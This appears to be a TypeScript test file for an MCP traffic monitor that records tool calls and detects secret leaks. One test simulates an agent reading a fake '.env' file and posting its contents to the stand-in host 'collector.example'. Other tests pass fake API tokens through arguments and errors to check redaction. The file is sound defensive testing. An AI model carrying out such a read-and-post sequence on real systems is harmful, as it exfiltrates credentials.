import { test } from 'node:test';
import assert from 'node:assert/strict';
import { TapEventSchema, type TapEvent, type ToolCallEvent } from '@tapwatch/schema';
import { SessionTracker, commandName } from '@tapwatch/collector';
import { fakeEnvFile, fakeSecrets } from './content-corpus.js';

function setup(identity: Partial<ConstructorParameters<typeof SessionTracker>[0]> = {}) {
  const events: TapEvent[] = [];
  let now = 1_700_000_000_000;
  const tracker = new SessionTracker(
    { session: 's1', transport: 'stdio', fallbackServerName: 'cmd', hostname: 'host', parentPid: 42, ...identity },
    (e) => events.push(TapEventSchema.parse(e)), // every emitted event must satisfy the schema
    () => now,
  );
  const send = (dir: 'client' | 'server', msg: unknown) => tracker.observeLine(dir, Buffer.from(JSON.stringify(msg)));
  return { tracker, events, send, tick: (ms: number) => (now += ms) };
}

const calls = (events: TapEvent[]) => events.filter((e): e is ToolCallEvent => e.type === 'tool_call');

function initialize(send: ReturnType<typeof setup>['send']) {
  send('client', {
    jsonrpc: '2.0',
    id: 0,
    method: 'initialize',
    params: { protocolVersion: '2025-06-18', clientInfo: { name: 'claude', version: '1' }, capabilities: {} },
  });
  send('server', { jsonrpc: '2.0', id: 0, result: { protocolVersion: '2025-06-18', serverInfo: { name: 'srv', version: '2' }, capabilities: {} } });
}

test('session_start carries client and server info from initialize; agent derives from host, parent and client', () => {
  const { events, send } = setup();
  initialize(send);
  const start = events.find((e) => e.type === 'session_start');
  assert.ok(start && start.type === 'session_start');
  assert.equal(start.client?.name, 'claude');
  assert.equal(start.serverInfo?.name, 'srv');
  assert.equal(start.protocolVersion, '2025-06-18');
  assert.equal(start.server, 'srv');
  assert.equal(start.agent, 'host:42:claude');
});

test('--name and --agent win over serverInfo and the derived agent', () => {
  const { events, send } = setup({ serverName: 'files', agent: 'a-1' });
  initialize(send);
  assert.equal(events[0]!.server, 'files');
  assert.equal(events[0]!.agent, 'a-1');
});

test('a tools/call is paired with its response by id: sizes, duration, status', () => {
  const { events, send, tick } = setup();
  initialize(send);
  send('client', { jsonrpc: '2.0', id: 5, method: 'tools/call', params: { name: 'echo', arguments: { message: 'hi' } } });
  tick(25);
  const result = { content: [{ type: 'text', text: 'Echo: hi' }] };
  send('server', { jsonrpc: '2.0', id: 5, result });
  const [c] = calls(events);
  assert.ok(c);
  assert.equal(c.tool, 'echo');
  assert.equal(c.requestBytes, Buffer.byteLength(JSON.stringify({ message: 'hi' })));
  assert.equal(c.responseBytes, Buffer.byteLength(JSON.stringify(result)));
  assert.equal(c.durationMs, 25);
  assert.equal(c.status, 'ok');
  assert.equal(c.isError, false);
  assert.deepEqual(c.argumentKeys, ['message']);
  assert.match(c.argumentsHash, /^[0-9a-f]{64}$/);
});

test('ids 0 and "0" are different requests; responses out of order pair correctly', () => {
  const { events, send } = setup();
  send('client', { jsonrpc: '2.0', id: 0, method: 'tools/call', params: { name: 'a', arguments: {} } });
  send('client', { jsonrpc: '2.0', id: '0', method: 'tools/call', params: { name: 'b', arguments: {} } });
  send('server', { jsonrpc: '2.0', id: '0', result: { content: [], isError: true } });
  send('server', { jsonrpc: '2.0', id: 0, result: { content: [] } });
  const got = calls(events).map((c) => [c.tool, c.requestId, c.status]);
  assert.deepEqual(got, [
    ['b', '"0"', 'tool_error'],
    ['a', '0', 'ok'],
  ]);
});

test('JSON-RPC errors, batches, cancellation and calls left open at the end', () => {
  const { tracker, events, send } = setup();
  send('client', [
    { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'x' } },
    { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'y' } },
    { jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'z' } },
  ]);
  send('server', { jsonrpc: '2.0', id: 1, error: { code: -32602, message: 'bad args' } });
  send('client', { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 2 } });
  tracker.end(0, null);
  const got = calls(events).map((c) => [c.tool, c.status, c.errorCode]);
  assert.deepEqual(got, [
    ['x', 'rpc_error', -32602],
    ['y', 'cancelled', null],
    ['z', 'incomplete', null],
  ]);
  const end = events.at(-1);
  assert.ok(end?.type === 'session_end');
  assert.equal(end.calls, 3);
  assert.equal(end.incomplete, 1);
});

test('tools/list results become a tools_list event; server→client requests are not tool calls', () => {
  const { events, send } = setup();
  send('client', { jsonrpc: '2.0', id: 'l1', method: 'tools/list' });
  send('server', { jsonrpc: '2.0', id: 'l1', result: { tools: [{ name: 'echo', description: 'Echo', inputSchema: { type: 'object' } }, { bogus: true }] } });
  send('server', { jsonrpc: '2.0', id: 9, method: 'sampling/createMessage', params: {} });
  send('client', { jsonrpc: '2.0', id: 9, result: {} });
  const lists = events.filter((e) => e.type === 'tools_list');
  assert.equal(lists.length, 1);
  assert.deepEqual(lists[0]!.type === 'tools_list' && lists[0]!.tools.map((t) => t.name), ['echo']);
  assert.equal(calls(events).length, 0);
});

test('non-JSON lines are counted, never fatal', () => {
  const { tracker, events } = setup();
  tracker.observeLine('server', Buffer.from('Starting server...'));
  tracker.observeLine('server', Buffer.from('42'));
  tracker.end(null, 'SIGTERM');
  const end = events.at(-1);
  assert.ok(end?.type === 'session_end');
  assert.equal(end.nonJsonLines, 2);
  assert.equal(end.signal, 'SIGTERM');
});

test('commandName picks a readable server name from a command line', () => {
  assert.equal(commandName('npx', ['-y', '@modelcontextprotocol/server-filesystem', '/tmp']), 'server-filesystem');
  assert.equal(commandName('uvx', ['mcp-server-time']), 'mcp-server-time');
  assert.equal(commandName('/usr/bin/my-server', []), 'my-server');
});

test('content fields: capture level on every call, redacted arguments and preview by default, empty lists left out', () => {
  const { events, send } = setup();
  initialize(send);
  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'echo', arguments: { message: 'hi' } } });
  send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'Echo: hi' }] } });
  const [c] = calls(events);
  assert.ok(c);
  assert.equal(c.capture, 'redacted');
  assert.deepEqual(c.arguments, { message: 'hi' });
  assert.equal(c.resultPreview, 'Echo: hi');
  for (const field of ['findings', 'destinations', 'argumentDigests', 'resultDigests'] as const) assert.equal(c[field], undefined, field);
});

test('metadata ships no content but keeps findings, digests and destinations; full ships it as sent', () => {
  const env = fakeEnvFile(2);
  const read = { content: [{ type: 'text', text: env.text }] };
  const post = { url: `https://collector.example/in?d=${encodeURIComponent(env.text)}` };
  for (const capture of ['metadata', 'redacted', 'full'] as const) {
    const { events, send } = setup({ capture });
    send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'read_file', arguments: { path: '/srv/app/.env' } } });
    send('server', { jsonrpc: '2.0', id: 1, result: read });
    send('client', { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'http_post', arguments: post } });
    send('server', { jsonrpc: '2.0', id: 2, result: { content: [{ type: 'text', text: 'ok' }] } });
    const [r, p] = calls(events);
    assert.ok(r && p);
    assert.equal(r.capture, capture);
    assert.deepEqual(
      r.findings?.map((f) => [f.kind, f.where, f.field ?? null, f.rule]),
      [
        ['sensitive_path', 'arguments', 'path', 'dotenv_path'],
        ['secret', 'result', null, 'credential_assignment'],
        ['secret', 'result', null, 'stripe_secret_key'],
      ],
    );
    assert.deepEqual(p.destinations, ['collector.example']);
    const shared = (p.argumentDigests ?? []).filter((d) => (r.resultDigests ?? []).includes(d));
    assert.ok(
      shared.some((d) => d.startsWith('a')),
      `${capture}: the secret read is seen leaving`,
    );
    if (capture === 'metadata') {
      assert.equal(r.arguments, undefined);
      assert.equal(r.resultPreview, undefined);
    }
    if (capture === 'full') {
      assert.deepEqual(p.arguments, post);
      assert.equal(r.resultPreview, env.text);
    }
  }
});

test('no secret reaches any event below full: arguments, keys, previews, errors, the command line', () => {
  const s = fakeSecrets(31);
  const env = fakeEnvFile(32);
  const secrets = [s.github_token!, s.slack_token!, s.openai_api_key!, env.password, env.stripe];
  for (const capture of ['metadata', 'redacted'] as const) {
    const { tracker, events, send } = setup({ capture, target: `npx -y server-github --token ${s.github_token}` });
    initialize(send);
    send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'cat', arguments: { path: '.env' } } });
    send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: env.text }] } });
    send('client', { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'kv_put', arguments: { [s.slack_token!]: { value: s.openai_api_key } } } });
    send('server', { jsonrpc: '2.0', id: 2, error: { code: -32000, message: `rejected key ${s.openai_api_key}`, data: { token: s.github_token } } });
    send('client', { jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'post', arguments: { body: Buffer.from(env.text).toString('base64') } } });
    tracker.end(0, null);
    const wire = JSON.stringify(events);
    for (const secret of secrets) assert.ok(!wire.includes(secret), `${capture}: ${secret.slice(0, 10)}… leaked`);
    const err = calls(events).find((c) => c.status === 'rpc_error');
    assert.match(err?.errorMessage ?? '', /^rejected key \[REDACTED:openai_api_key\]$/);
  }
});

test('a failing inspection costs only the content fields, never the call', () => {
  const { tracker, events } = setup();
  let reads = 0;
  const args = {
    get tricky() {
      // JSON.stringify (sizes and hash) reads it first; the inspection's read throws.
      if (++reads > 1) throw new Error('boom');
      return 'value';
    },
  };
  tracker.observe('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'x', arguments: args } });
  tracker.observe('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'done' }] } });
  const [c] = calls(events);
  assert.ok(c);
  assert.equal(c.status, 'ok');
  assert.equal(c.arguments, undefined);
  assert.equal(c.resultPreview, 'done');
  assert.equal(tracker.inspectionStats.errors, 1);
});

test('text past the inspection budget is counted, not read', () => {
  const { tracker, events, send } = setup();
  const big = 'word '.repeat(300_000);
  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'echo', arguments: { message: big } } });
  send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: big }] } });
  const [c] = calls(events);
  assert.ok(c?.resultPreview && c.resultPreview.length <= 4096);
  const stats = tracker.inspectionStats;
  assert.equal(stats.truncatedCalls, 1);
  assert.equal(stats.uninspectedChars, 2 * (big.length - 1024 * 1024));
});

const serverRequests = (events: TapEvent[]) => events.filter((e): e is Extract<TapEvent, { type: 'server_request' }> => e.type === 'server_request');

test('progress notifications are followed by token and counted on their call', () => {
  const { events, send } = setup();
  initialize(send);
  send('client', { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'longRunning', arguments: {}, _meta: { progressToken: 0 } } });
  send('client', { jsonrpc: '2.0', id: 8, method: 'tools/call', params: { name: 'other', arguments: {}, _meta: { progressToken: '0' } } });
  for (let i = 0; i < 3; i++) send('server', { jsonrpc: '2.0', method: 'notifications/progress', params: { progressToken: 0, progress: i, total: 3 } });
  send('server', { jsonrpc: '2.0', method: 'notifications/progress', params: { progressToken: '0', progress: 1 } });
  send('server', { jsonrpc: '2.0', method: 'notifications/progress', params: { progressToken: 'unknown', progress: 1 } });
  send('server', { jsonrpc: '2.0', id: 7, result: { content: [] } });
  send('server', { jsonrpc: '2.0', id: 8, result: { content: [] } });
  // A late notification for a closed call changes nothing.
  send('server', { jsonrpc: '2.0', method: 'notifications/progress', params: { progressToken: 0, progress: 9 } });
  assert.deepEqual(
    calls(events).map((c) => [c.tool, c.progressNotifications]),
    [
      ['longRunning', 3],
      ['other', 1],
    ],
  );
});

test('server→client requests are recorded with their replies, linked to the one open call', () => {
  const { tracker, events, send, tick } = setup();
  initialize(send);
  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'sampleLLM', arguments: { prompt: 'hi' } } });
  // The server's ids are its own: id 1 here is not the client's request 1.
  send('server', {
    jsonrpc: '2.0',
    id: 1,
    method: 'sampling/createMessage',
    params: { messages: [{ role: 'user', content: { type: 'text', text: 'hi' } }], maxTokens: 10 },
  });
  tick(40);
  send('client', { jsonrpc: '2.0', id: 1, result: { role: 'assistant', content: { type: 'text', text: 'hello' }, model: 'm' } });
  send('server', { jsonrpc: '2.0', id: 2, method: 'elicitation/create', params: { message: 'name?', requestedSchema: { type: 'object', properties: {} } } });
  send('client', { jsonrpc: '2.0', id: 2, result: { action: 'decline' } });
  send('server', { jsonrpc: '2.0', id: 3, method: 'roots/list' });
  send('client', { jsonrpc: '2.0', id: 3, error: { code: -32601, message: 'no roots' } });
  send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'done' }] } });
  send('server', { jsonrpc: '2.0', id: 'x', method: 'roots/list' });
  send('server', { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 'x' } });
  send('server', { jsonrpc: '2.0', id: 'y', method: 'ping' });
  tracker.end(0, null);

  const got = serverRequests(events).map((r) => [r.method, r.requestId, r.status, r.action ?? null, r.errorCode, r.relatedTool ?? null]);
  assert.deepEqual(got, [
    ['sampling/createMessage', '1', 'ok', null, null, 'sampleLLM'],
    ['elicitation/create', '2', 'ok', 'decline', null, 'sampleLLM'],
    ['roots/list', '3', 'rpc_error', null, -32601, 'sampleLLM'],
    ['roots/list', '"x"', 'cancelled', null, null, null],
    ['ping', '"y"', 'incomplete', null, null, null],
  ]);
  const sampling = serverRequests(events)[0]!;
  assert.equal(sampling.durationMs, 40);
  assert.ok(sampling.requestBytes > 0 && sampling.responseBytes > 0);
  const [call] = calls(events);
  assert.equal(call?.status, 'ok');
  assert.equal(call?.serverRequests, 3);
  // The client's reply with id 1 did not close the client's own call 1 early.
  assert.equal(calls(events).length, 1);
});

test('2026-07-28: no initialize; identity from _meta and server/discover is on every event', () => {
  const { tracker, events, send } = setup();
  const meta = {
    'io.modelcontextprotocol/protocolVersion': '2026-07-28',
    'io.modelcontextprotocol/clientCapabilities': {},
    'io.modelcontextprotocol/clientInfo': { name: 'cursor', version: '3.1' },
  };
  send('client', { jsonrpc: '2.0', id: 1, method: 'server/discover', params: { _meta: meta } });
  send('server', {
    jsonrpc: '2.0',
    id: 1,
    result: { resultType: 'complete', supportedVersions: ['2026-07-28'], capabilities: { tools: {} }, serverInfo: { name: 'weather', version: '4' } },
  });
  send('client', { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'forecast', arguments: { city: 'Oslo' }, _meta: meta } });
  send('server', { jsonrpc: '2.0', id: 2, result: { resultType: 'complete', content: [{ type: 'text', text: 'rain' }] } });
  tracker.end(null, null);
  assert.deepEqual(
    events.map((e) => e.type),
    ['session_start', 'tool_call', 'session_end'],
  );
  for (const e of events) {
    assert.equal(e.protocolVersion, '2026-07-28', e.type);
    assert.deepEqual(e.client, { name: 'cursor', version: '3.1' }, e.type);
    assert.deepEqual(e.serverInfo, { name: 'weather', version: '4' }, e.type);
    assert.equal(e.server, 'weather');
    assert.equal(e.agent, 'host:42:cursor');
  }
});

test("2026-07-28: serverInfo in a result's _meta names the server without initialize or discover", () => {
  const { events, send } = setup();
  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/list', params: { _meta: { 'io.modelcontextprotocol/protocolVersion': '2026-07-28' } } });
  send('server', {
    jsonrpc: '2.0',
    id: 1,
    result: { tools: [{ name: 't', inputSchema: { type: 'object' } }], _meta: { 'io.modelcontextprotocol/serverInfo': { name: 'meta-srv', version: '1' } } },
  });
  const list = events.find((e) => e.type === 'tools_list');
  assert.equal(list?.server, 'meta-srv');
});

test('2026-07-28: an input_required result and its retry under a new id are one logical call', () => {
  const { tracker, events, send, tick } = setup();
  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'book', arguments: { trip: 'Oslo' } } });
  tick(10);
  send('server', {
    jsonrpc: '2.0',
    id: 1,
    result: {
      resultType: 'input_required',
      inputRequests: { confirm: { method: 'elicitation/create', params: { message: 'Sure?' } }, who: { method: 'roots/list' } },
      requestState: 'st-1',
    },
  });
  assert.equal(calls(events).length, 0, 'not reported before the last round');
  tick(30);
  send('client', {
    jsonrpc: '2.0',
    id: 2,
    method: 'tools/call',
    params: { name: 'book', arguments: { trip: 'Oslo' }, inputResponses: { confirm: { action: 'accept', content: {} } }, requestState: 'st-1' },
  });
  tick(5);
  send('server', { jsonrpc: '2.0', id: 2, result: { resultType: 'complete', content: [{ type: 'text', text: 'booked' }] } });
  // A retry whose state nobody issued is a call of its own.
  send('client', { jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'book', arguments: {}, requestState: 'forged' } });
  send('server', { jsonrpc: '2.0', id: 3, result: { content: [] } });
  // Never retried: incomplete at the end.
  send('client', { jsonrpc: '2.0', id: 4, method: 'tools/call', params: { name: 'pay', arguments: {} } });
  send('server', { jsonrpc: '2.0', id: 4, result: { inputRequests: [{ id: 'card', method: 'elicitation/create' }], requestState: 'st-2' } });
  tracker.end(0, null);

  const got = calls(events).map((c) => [c.tool, c.requestId, c.status, c.rounds ?? 1, c.serverRequests ?? 0]);
  assert.deepEqual(got, [
    ['book', '1', 'ok', 2, 2],
    ['book', '3', 'ok', 1, 0],
    ['pay', '4', 'incomplete', 1, 1],
  ]);
  const book = calls(events)[0]!;
  assert.equal(book.durationMs, 45, 'from the first request to the last result');
  assert.deepEqual(
    serverRequests(events).map((r) => [r.method, r.status, r.action ?? null, r.relatedTool]),
    [
      ['elicitation/create', 'ok', 'accept', 'book'],
      ['roots/list', 'cancelled', null, 'book'],
    ],
  );
  const end = events.find((e) => e.type === 'session_end');
  assert.equal(end?.type === 'session_end' && end.incomplete, 1);
});

test('messages nested past the parsing limit: every call is still reported, cut and flagged, and its events serialise', () => {
  const { tracker, events, send } = setup();
  initialize(send);
  const deep = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
  const raw = (dir: 'client' | 'server', text: string) => tracker.observeLine(dir, Buffer.from(text));
  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/list' });
  raw('server', `{"jsonrpc":"2.0","id":1,"result":{"tools":[{"name":"t","inputSchema":{"type":"object","properties":{"v":${deep(20_000)}}}}]}}`);
  raw('client', `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"t","arguments":{"v":${deep(3_000)}}}}`);
  raw('server', `{"jsonrpc":"2.0","id":2,"result":{"content":[],"_meta":${deep(3_000)}}}`);
  send('client', { jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 't', arguments: {} } });
  raw('server', `{"jsonrpc":"2.0","id":3,"error":{"code":-32001,"message":"no","data":${deep(5_000)}}}`);
  send('client', { jsonrpc: '2.0', id: 4, method: 'tools/call', params: { name: 't', arguments: {} } });
  send('server', { jsonrpc: '2.0', id: 4, result: { content: [{ type: 'text', text: 'fine' }] } });
  const list = events.find((e) => e.type === 'tools_list');
  assert.ok(list?.type === 'tools_list');
  assert.deepEqual(list.cut, ['response: nested deeper than 64 levels']);
  assert.equal(list.tools[0]?.name, 't');
  const [two, three, four] = calls(events);
  assert.deepEqual(two?.cut, ['request: nested deeper than 64 levels', 'response: nested deeper than 64 levels']);
  assert.equal(two?.status, 'ok');
  assert.deepEqual(three?.cut, ['response: nested deeper than 64 levels']);
  assert.equal(three?.status, 'rpc_error');
  assert.equal(four?.cut, undefined);
  // Every event can be serialised and cloned: what ended the tap before.
  for (const e of events) structuredClone(JSON.parse(JSON.stringify(e)));
});

test('traffic left out of observation is stored as a gap of the session', () => {
  const { tracker, events } = setup();
  tracker.noteUnobserved('server', 3, 17_000_000, 'the observer was behind');
  const gap = events.find((e) => e.type === 'delivery_gap');
  assert.ok(gap?.type === 'delivery_gap');
  assert.equal(gap.dropped, 3);
  assert.match(gap.reason, /^not observed: 3 messages \(17000000 bytes\) from the server: the observer was behind$/);
  assert.equal(gap.session, 's1');
});
